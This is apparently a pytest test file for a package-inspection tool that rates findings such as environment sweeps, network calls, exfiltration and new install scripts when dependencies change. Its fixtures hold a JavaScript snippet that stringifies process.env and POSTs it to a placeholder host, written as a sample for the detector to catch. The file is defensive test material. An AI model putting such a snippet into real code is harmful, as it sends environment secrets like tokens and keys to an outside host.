"""What a serious finding names is not named again as serious as itself by its parts."""

import pytest

from approvals.inspection.finding import Finding, Severity
from approvals.inspection.findings import rules_in_words
from approvals.inspection.parts import PARTS
from tests.approvals.inspection.findings.packages import QUIET, Files, found

TAKES = "const all = JSON.stringify(process.env);\n"
SENDS = "fetch('https://files.example.invalid/', { method: 'POST', body: all });\n"


def by_rule(findings: list[Finding]) -> dict[str, Severity]:
    return {one.rule: one.severity for one in findings}


def severities(files: Files) -> dict[str, Severity]:
    return by_rule(found(QUIET, {**QUIET, **files}))


def test_parts_are_worth_a_look_alone() -> None:
    assert severities({"a.js": TAKES + "use(all);\n"})["environment-sweep"] == Severity.MEDIUM
    assert severities({"a.js": SENDS})["network"] == Severity.MEDIUM


def test_what_is_named_as_a_whole_is_named_once() -> None:
    seen = severities({"a.js": TAKES + SENDS})
    assert seen["exfiltration"].is_serious
    assert (seen["environment-sweep"], seen["network"]) == (Severity.LOW, Severity.LOW)


def test_the_same_in_another_file_keeps_its_weight() -> None:
    elsewhere = "fetch('https://other.example.invalid/').then(show);\n"
    findings = found(QUIET, {**QUIET, "a.js": TAKES + SENDS, "b.js": elsewhere})
    (network,) = [one for one in findings if one.rule == "network"]
    assert network.severity == Severity.MEDIUM
    assert {"a.js", "b.js"} <= {network.path, *network.detail.replace(":", " ").split()}


def test_the_file_that_a_new_script_runs_is_said_by_the_script() -> None:
    new = {**QUIET, "setup.js": "go()\n"}
    manifest = {"scripts": {"install": "node setup.js"}}
    seen = by_rule(found(QUIET, new, manifest=manifest, manifest_old={"scripts": {}}))
    assert (seen["install-script"], seen["install-file"]) == (Severity.HIGH, Severity.LOW)
    old = {**QUIET, "setup.js": "stop()\n"}
    assert by_rule(found(old, new, manifest=manifest))["install-file"] == Severity.MEDIUM


@pytest.mark.parametrize("rule", PARTS)
def test_wholes_and_parts_are_rules(rule: str) -> None:
    rules = {one for group in rules_in_words().values() for one in group}
    assert {rule, *PARTS[rule]} <= rules
    assert rule not in PARTS[rule]
